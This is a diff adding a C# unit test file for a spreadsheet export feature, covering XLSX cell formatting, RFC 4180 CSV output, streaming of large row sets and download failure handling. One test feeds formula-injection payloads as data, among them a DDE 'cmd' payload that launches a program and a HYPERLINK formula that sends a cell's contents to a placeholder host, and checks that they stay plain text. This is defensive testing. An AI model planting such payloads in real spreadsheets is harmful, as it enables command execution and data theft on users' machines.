@@ -1,0 +1,269 @@
+using System.Net;
+using System.Runtime.CompilerServices;
+using System.Text;
+using Microsoft.AspNetCore.Http;
+using Microsoft.Azure.Functions.Worker;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Hosting;
+using Prosmex.Domain.Common;
+using Prosmex.Functions.Http;
+using Prosmex.Functions.Http.Exportacion;
+using Prosmex.Tests.Infrastructure;
+using Prosmex.Tests.LocalHost;
+
+namespace Prosmex.Tests.Http;
+
+/// <summary>The exported files, cell by cell, and their delivery to the client.</summary>
+[Trait("Kind", "Unit")]
+public sealed class ExportTests
+{
+    private static readonly ColumnHeader[] Columnas =
+    [
+        new("Texto", CellFormat.Text), new("Entero", CellFormat.Integer), new("Monto", CellFormat.Monto), new("Porcentaje", CellFormat.Porcentaje), new("Día", CellFormat.Dia),
+    ];
+
+    private static readonly Fila[] Filas =
+    [
+        new(["Ñandú & <Cía> \"x\"", 7, 1234567.89m, 0.123456m, new DateOnly(2026, 11, 16)]),
+        new(["", 0, -0.01m, -1.5m, new DateOnly(2000, 2, 29)]),
+        new([null, null, null, null, null]),
+        new(["Total", 7, 1234567.88m, null, null], EsTotal: true),
+    ];
+
+    [Fact]
+    public async Task Xlsx_EachFormat_IsReadAsWritten()
+    {
+        var libro = await LibroAsync(new("Semana 2026-11-16", Columnas, Filas.ToAsyncEnumerable()), new("Otra", [new("Solo", CellFormat.Text)], AsyncEnumerable.Empty<Fila>()));
+        Assert.Equal(["Semana 2026-11-16", "Otra"], libro.Hojas);
+        var filas = libro["Semana 2026-11-16"];
+        Assert.Equal(Columnas.Select(c => c.Title), filas[0].Select(c => c.Valor));
+        Assert.All(filas[0], c => Assert.True(c.EsNegrita));
+        Assert.Equal(["Ñandú & <Cía> \"x\"", 7m, 1234567.89m, 0.123456m, new DateOnly(2026, 11, 16)], filas[1].Select(c => c.Valor));
+        Assert.Equal(["@", "#,##0", "#,##0.00", "0.00%", "yyyy\\-mm\\-dd"], filas[1].Select(c => c.Formato));
+        Assert.Equal(["", 0m, -0.01m, -1.5m, new DateOnly(2000, 2, 29)], filas[2].Select(c => c.Valor));
+        Assert.All(filas[3], c => Assert.Null(c.Valor));
+        Assert.All(filas[1].Concat(filas[2]), c => Assert.False(c.EsNegrita));
+        Assert.All(filas[4], c => Assert.True(c.EsNegrita));
+        Assert.Equal("#,##0.00", filas[4][2].Formato);
+        Assert.Equal("Solo", Assert.Single(Assert.Single(libro["Otra"])).Valor);
+    }
+
+    [Theory]
+    [InlineData("=cmd|' /C calc'!A0")]
+    [InlineData("+1+1")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(A1)")]
+    [InlineData("\uFF1D1+1")]
+    [InlineData("\uFF0B1")]
+    [InlineData("\uFF0D1")]
+    [InlineData("\uFF20SUM(A1)")]
+    [InlineData("\t=1")]
+    [InlineData("\r=1")]
+    [InlineData("=HYPERLINK(\"https://x.example?\"&A1,\"ver\")")]
+    [InlineData("_x003D_1")]
+    [InlineData("  blancos  ")]
+    [InlineData("-->]]></t><f>1</f>")]
+    public async Task Text_ThatLooksLikeAFormula_StaysText(string text)
+    {
+        var hoja = new Hoja("H", [new("=1", CellFormat.Text)], new[] { new Fila([text]) }.ToAsyncEnumerable());
+        var cell = Assert.Single((await LibroAsync(hoja))["H"][1]);
+        Assert.Equal((text.Replace("_x003D_", "_x005F_x003D_", StringComparison.Ordinal), "@"), (cell.Valor, cell.Formato));
+
+        var lines = Campos(Encoding.UTF8.GetString(await CsvAsync(hoja))[1..]);
+        Assert.Equal("'=1", lines[0][0]);
+        Assert.Equal(text[0] is '=' or '+' or '-' or '@' or '\uFF1D' or '\uFF0B' or '\uFF0D' or '\uFF20' or '\t' or '\r' ? "'" + text : text, lines[1][0]);
+    }
+
+    [Fact]
+    public async Task Csv_EachFormat_IsRfc4180InUtf8WithBom()
+    {
+        var bytes = await CsvAsync(new("H", Columnas, Filas.Append(new(["con, coma\r\ny línea", -3, 0.5m, 1m, null])).ToAsyncEnumerable()));
+        Assert.Equal(
+            "\uFEFFTexto,Entero,Monto,Porcentaje,Día\r\n"
+            + "\"Ñandú & <Cía> \"\"x\"\"\",7,1234567.89,12.35%,2026-11-16\r\n"
+            + ",0,-0.01,-150.00%,2000-02-29\r\n"
+            + ",,,,\r\n"
+            + "Total,7,1234567.88,,\r\n"
+            + "\"con, coma\r\ny línea\",-3,0.50,100.00%,\r\n",
+            Encoding.UTF8.GetString(bytes));
+        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
+    }
+
+    [Theory]
+    [InlineData(true)]
+    [InlineData(false)]
+    public async Task Rows_OneHundredThousand_AreStreamed(bool xlsx)
+    {
+        const int Total = 100_000;
+        using var output = new SoloHaciaAdelante();
+        var escrito = 0L;
+        async IAsyncEnumerable<Fila> Contadas([EnumeratorCancellation] CancellationToken cancellationToken = default)
+        {
+            for (var n = 1; n <= Total; n++)
+            {
+                if (n % 1000 == 0)
+                {
+                    await Task.Yield();
+                    cancellationToken.ThrowIfCancellationRequested();
+                    Assert.True(n < 20_000 || output.Bytes > escrito, $"nothing was written while {n} rows came");
+                    escrito = n % 20_000 == 0 ? output.Bytes : escrito;
+                }
+
+                yield return new([$"Grupo {Guid.NewGuid()}", n, n * 1.01m, null, new DateOnly(2026, 11, 16)]);
+            }
+        }
+
+        var hoja = new Hoja("H", Columnas, Contadas(TestContext.Current.CancellationToken));
+        await (xlsx ? Xlsx.WriteAsync(output, [hoja], CancellationToken.None) : Csv.WriteAsync(output, hoja, CancellationToken.None));
+        Assert.True(output.Bytes > Total * 20, $"{output.Bytes}");
+    }
+
+    [Fact]
+    public async Task Download_ThatFails_IsAProblemBeforeTheFirstByteAndABrokenConnectionAfter()
+    {
+        await using var local = new LocalHostFixture();
+        local.Write("host.json", """{ "extensions": { "http": { "routePrefix": "" } } }""");
+        var builder = local.CreateBuilder(typeof(Descargas));
+        builder.Services.AddSingleton(TestServer.Opciones("Host=x")).AddSingleton(ClientAddress.Read(builder.Configuration));
+        builder.UseMiddleware<ErrorMiddleware>();
+        await local.StartAsync(builder);
+
+        using var entera = await local.SendAsync("GET", "/descargas/5000");
+        Assert.Equal("attachment; filename=\"archivo.csv\"", entera.Content.Headers.ContentDisposition?.ToString());
+        Assert.Equal("text/csv", entera.Content.Headers.ContentType?.MediaType);
+        Assert.Equal(5001, (await entera.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)).Split("\r\n").Length - 1);
+
+        foreach (var filas in new[] { 0, 3 })
+        {
+            using var temprana = await local.SendAsync("GET", $"/descargas/{filas}?falla=si");
+            Assert.Equal(HttpStatusCode.Conflict, temprana.StatusCode);
+            Assert.Null(temprana.Content.Headers.ContentDisposition);
+            Assert.Equal("application/problem+json", temprana.Content.Headers.ContentType?.MediaType);
+            Assert.StartsWith("{", await temprana.Content.ReadAsStringAsync(TestContext.Current.CancellationToken), StringComparison.Ordinal);
+        }
+
+        await Assert.ThrowsAsync<HttpRequestException>(() => local.SendAsync("GET", "/descargas/5000?falla=si"));
+    }
+
+    private static async Task<Workbook> LibroAsync(params Hoja[] hojas)
+    {
+        using var output = new MemoryStream();
+        await Xlsx.WriteAsync(output, hojas, CancellationToken.None);
+        return Workbook.Leer(output.ToArray());
+    }
+
+    private static async Task<byte[]> CsvAsync(Hoja hoja)
+    {
+        using var output = new MemoryStream();
+        await Csv.WriteAsync(output, hoja, CancellationToken.None);
+        return output.ToArray();
+    }
+
+    /// <summary>What a reader of RFC 4180 makes of it.</summary>
+    private static List<List<string>> Campos(string csv)
+    {
+        List<List<string>> lines = [[]];
+        for (var i = 0; i < csv.Length;)
+        {
+            var fieldName = new StringBuilder();
+            if (csv[i] == '"')
+            {
+                for (i++; csv[i] != '"' || (i + 1 < csv.Length && csv[i + 1] == '"'); i++)
+                {
+                    i += csv[i] == '"' ? 1 : 0;
+                    fieldName.Append(csv[i]);
+                }
+
+                i++;
+            }
+            else
+            {
+                for (; csv[i] is not (',' or '\r'); i++)
+                {
+                    fieldName.Append(csv[i]);
+                }
+            }
+
+            lines[^1].Add(fieldName.ToString());
+            if (csv[i] == ',')
+            {
+                i++;
+                continue;
+            }
+
+            Assert.Equal("\r\n", csv.Substring(i, 2));
+            i += 2;
+            lines.Add([]);
+        }
+
+        return lines;
+    }
+
+    public sealed class Descargas
+    {
+        [Function("Descargas")]
+        public IResult Descargar([HttpTrigger(AuthorizationLevel.Anonymous, "get", Route = "descargas/{cuantas:int}")] HttpRequest req, int cuantas) => Download.DeCsv(async write =>
+        {
+            await Task.Yield();
+            await write("archivo", new Hoja("H", [new("Texto", CellFormat.Text)], FilasAsync(cuantas, req.Query.ContainsKey("falla"))));
+        });
+
+        private static async IAsyncEnumerable<Fila> FilasAsync(int cuantas, bool fault)
+        {
+            for (var n = 0; n < cuantas; n++)
+            {
+                yield return new([$"fila número {n}"]);
+            }
+
+            await Task.Yield();
+            if (fault)
+            {
+                throw new DominioException(ErroresComunes.Referenciado);
+            }
+        }
+    }
+
+    /// <summary>Counts what is written, and rejects synchronous writes except those of a ZIP at the end of an entry.</summary>
+    private sealed class SoloHaciaAdelante : Stream
+    {
+        public long Bytes { get; private set; }
+
+        public override bool CanRead => false;
+
+        public override bool CanSeek => false;
+
+        public override bool CanWrite => true;
+
+        public override long Length => throw new NotSupportedException();
+
+        public override long Position
+        {
+            get => throw new NotSupportedException();
+            set => throw new NotSupportedException();
+        }
+
+        public override void Flush()
+        {
+        }
+
+        public override void Write(byte[] buffer, int offset, int count) => Bytes += count;
+
+        public override Task WriteAsync(byte[] buffer, int offset, int count, CancellationToken cancellationToken)
+        {
+            Bytes += count;
+            return Task.CompletedTask;
+        }
+
+        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default)
+        {
+            Bytes += buffer.Length;
+            return ValueTask.CompletedTask;
+        }
+
+        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();
+
+        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
+
+        public override void SetLength(long value) => throw new NotSupportedException();
+    }
+}
